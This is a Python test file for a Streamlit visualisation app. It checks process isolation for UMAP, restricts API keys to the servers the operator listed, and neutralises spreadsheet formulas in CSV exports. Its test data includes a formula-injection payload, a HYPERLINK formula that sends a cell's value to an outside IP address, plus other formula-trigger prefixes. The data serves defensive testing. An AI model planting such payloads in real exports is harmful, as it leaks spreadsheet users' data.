"""The app against a busy machine and a hostile page user (issue 31): UMAP's warm-up never holds the server process's
GIL, an API key goes only to the servers the operator listed, and every table's own CSV download is neutralised."""

from __future__ import annotations

import os
import subprocess
import sys
import threading
import time

import pytest
from streamlit.testing.v1 import AppTest

from tests.conftest import REPO, make_run
from tests.test_server import server, spec_of  # noqa: F401 (the scripted server fixture records every header)
from uqviz.engine.projection import MapWorker
from uqviz.engine.server import key_allowed
from uqviz.format.spreadsheet import read_spreadsheet_text

# a core-burning loop that ends by itself once the test process is gone
BURNER = "import os\nparent = os.getppid()\nwhile os.getppid() == parent:\n    for _ in range(100_000):\n        pass\n"
KEY = "sk-operator-secret-4711"
HOSTILE_ANSWERS = ['=HYPERLINK("http://198.51.100.7/?"&A1,"click")', "+1+1", "-2", "@SUM(A1)", "\tx", "plain answer"]


def longest_stall(seconds: float) -> float:
    """The longest time, in seconds, that a loop in a thread of this process went without running during `seconds`:
    about the scheduler's slice on a loaded machine, or as long as another thread of it holds the GIL unscheduled."""
    worst = [0.0]

    def spin() -> None:
        last = now = time.perf_counter()
        end = now + seconds
        while now < end:
            now = time.perf_counter()
            worst[0] = max(worst[0], now - last)
            last = now

    thread = threading.Thread(target=spin)
    thread.start()
    thread.join()
    return worst[0]


@pytest.mark.slow
def test_the_umap_warm_up_runs_in_another_process_and_never_stalls_this_one():
    """Two core-burning processes load the cores, then the map worker imports and compiles UMAP. A thread of this
    process never waits long: on the 2-core machine at load 7, the longest stall of each 3 s window was 44-60 ms with
    the worker, and 0.96-1.32 s with the former low-priority warm-up thread in this process (its compiler held the
    GIL while the scheduler left it waiting: 60 s after Submit the first sample was still in its first forward pass).
    The median of three windows keeps a single stall of the machine itself from failing the test."""
    burners = [subprocess.Popen([sys.executable, "-c", BURNER]) for _ in range(2)]
    try:
        worker = MapWorker()
        try:
            stalls = sorted(longest_stall(3.0) for _ in range(3))
            assert worker.pid != os.getpid() and worker.process.poll() is None
        finally:
            worker.close()
    finally:
        for burner in burners:
            burner.kill()
            burner.wait()
    assert stalls[1] < 0.3, f"a thread of this process stalled {stalls} s while UMAP was warming up"


@pytest.mark.slow
def test_a_map_needing_no_umap_is_drawn_here_and_one_that_does_by_the_worker(monkeypatch):
    import numpy as np

    from uqviz.engine import projection

    worker = MapWorker()
    try:
        worker.process.kill()  # a worker that died (killed for memory, say) is started again when a map needs it
        worker.process.wait()
        few = worker.map_2d(np.eye(4, 8))
        assert few.method == "pca" and few.coordinates.shape == (4, 2) and worker.process.poll() is not None
        monkeypatch.setattr(projection, "map_2d", lambda *args: pytest.fail("UMAP ran in the caller's process"))
        drawn = worker.map_2d(np.random.default_rng(0).normal(size=(8, 8)))
        assert drawn.method == "umap" and drawn.coordinates.shape == (8, 2)
    finally:
        worker.close()


def load_through_the_sidebar() -> None:
    """The sidebar and the model it names, as every page loads it."""
    import streamlit as st

    from pages.common import language_model, sidebar_settings

    sidebar_settings()
    st.session_state["loaded"] = language_model() is not None


def sidebar_app(spec: str) -> AppTest:
    at = AppTest.from_function(load_through_the_sidebar, default_timeout=60)
    at.session_state["model_spec"] = spec
    at.session_state["api_key_env"] = "UQVIZ_TEST_API_KEY"
    at.run()
    assert not at.exception and at.session_state["loaded"]
    return at


def authorisations(httpd) -> set:
    return {headers.get("Authorization") for _, _, _, headers in httpd.requests}


def test_a_url_typed_in_the_page_gets_no_key_and_a_listed_server_does(server, monkeypatch):  # noqa: F811
    monkeypatch.setenv("UQVIZ_TEST_API_KEY", KEY)
    monkeypatch.setenv("UQVIZ_SERVERS", "openai:http://127.0.0.1:9/v1#other")
    typed = sidebar_app(spec_of(server))
    assert authorisations(server) == {None}
    assert any("No API key is sent to this server" in caption.value for caption in typed.sidebar.caption)

    server.requests.clear()
    monkeypatch.setenv("UQVIZ_SERVERS", f"openai:http://127.0.0.1:9/v1#other, {spec_of(server, model='another')}")
    listed = sidebar_app(spec_of(server))
    assert authorisations(server) == {f"Bearer {KEY}"}
    assert not any("No API key is sent" in caption.value for caption in listed.sidebar.caption)


@pytest.mark.parametrize("spec, listed, allowed", [
    ("openai:http://h:8080/v1#m", None, True),  # the CLI's explicit --api-key-env
    ("openai:http://h:8080/v1#m", [], False),
    ("openai:http://h:8080/v1/#other", ["openai:http://h:8080/v1#m"], True),  # the same server, another model
    ("openai:http://h:8080/v1#m", ["openai:http://h:8081/v1#m"], False),
    ("openai:http://h:8080/v2#m", ["openai:http://h:8080/v1#m"], False),
    ("openai:https://h:8080/v1#m", ["openai:http://h:8080/v1#m"], False),
    ("openai:http://h.evil:8080/v1#m", ["openai:http://h:8080/v1#m", "not a spec"], False),
])
def test_a_key_is_allowed_only_for_the_exact_url_of_a_listed_server(spec, listed, allowed):
    assert key_allowed(spec, listed) is allowed


@pytest.mark.slow
def test_the_sample_table_offers_formula_answers_neutralised():
    """Streamlit's "Download as CSV" exports what the table holds: the answers arrive quoted as the CSVs uqviz writes."""
    run = make_run(HOSTILE_ANSWERS)
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    at.session_state["run"] = run
    at.run()
    assert not at.exception, at.exception
    table = at.dataframe[0].value  # the Sample page's first table: its samples
    shown = list(table["answer"])
    assert shown == ["'" + answer for answer in HOSTILE_ANSWERS[:-1]] + ["plain answer"]
    assert [read_spreadsheet_text(cell) for cell in shown] == HOSTILE_ANSWERS  # exactly the answers, read back
